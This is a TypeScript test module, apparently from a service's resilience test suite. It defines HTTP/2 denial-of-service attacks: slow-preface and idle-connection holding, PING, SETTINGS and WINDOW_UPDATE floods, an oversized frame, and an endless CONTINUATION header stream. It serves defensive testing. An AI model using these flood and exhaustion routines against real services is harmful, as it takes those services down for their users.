import { once } from 'node:events';
import { flag, frame, frameType, headerBlock, openRawPeer, preface, setting, uint32 } from '@zt/kit/testing';
import { type Attack, attackInFrames, Count, endWith, onLines } from './attack.ts';
import { beginCall } from './call-frames.ts';

const many = (bytes: Buffer, attempts: number) => () => ({
  bytes: Buffer.concat(Array(attempts).fill(bytes)),
  attempts,
});

/** Connections with a good SVID that are held, however little is said on them. */
function hold(lines: number, drip: Buffer, dripMs: number): Attack['run'] {
  return async (target, signal) => {
    const count = new Count();
    return await onLines(lines, count, signal, async () => {
      const socket = await openRawPeer(target);
      count.connections += 1;
      count.attempts += 1;
      const forget = endWith(signal, socket);
      let sent = 0;
      const timer = setInterval(() => {
        if (sent < drip.length) socket.write(drip.subarray(sent, ++sent));
      }, dripMs);
      if (!socket.closed) await once(socket, 'close');
      clearInterval(timer);
      forget();
      if (!signal.aborted) count.ended += 1;
    });
  };
}

/** What a workload can do to the connections of a service, whatever it may call. */
export const attacksOnConnections: readonly Attack[] = [
  {
    id: 'slow-preface',
    title: 'sends a byte of its preface every second, on 100 connections',
    run: hold(100, preface, 1_000),
  },
  {
    id: 'connections-of-one',
    title: 'holds as many connections as it gets, of 300 that it asks for again and again',
    run: hold(300, Buffer.alloc(0), 1_000),
  },
  {
    id: 'ping-flood',
    title: 'sends PING frames, and takes the answers',
    run: attackInFrames({ lines: 4, round: many(frame(frameType.ping, { payload: Buffer.alloc(8) }), 500) }),
  },
  {
    id: 'settings-flood',
    title: 'sends SETTINGS frames, and takes the answers',
    run: attackInFrames({ lines: 4, round: many(frame(frameType.settings, { payload: setting(4, 65_535) }), 500) }),
  },
  {
    id: 'window-flood',
    title: 'sends WINDOW_UPDATE frames, which nobody answers',
    run: attackInFrames({ lines: 4, round: many(frame(frameType.windowUpdate, { payload: uint32(1) }), 5_000) }),
  },
  {
    id: 'oversized-frame',
    title: 'announces frames of 16 MiB',
    run: attackInFrames({
      lines: 4,
      round: () => ({
        bytes: frame(frameType.data, { stream: 1, length: 0xffffff, payload: Buffer.alloc(16_384) }),
        attempts: 1,
      }),
    }),
  },
  {
    id: 'endless-headers',
    title: 'never comes to the end of the headers of a call',
    run: attackInFrames({
      lines: 4,
      round: (round) => ({
        bytes:
          round === 0
            ? beginCall(1, {}, flag.none)
            : frame(frameType.continuation, { stream: 1, payload: headerBlock([['x-more', 'x'.repeat(4_000)]]) }),
        attempts: 1,
      }),
    }),
  },
];
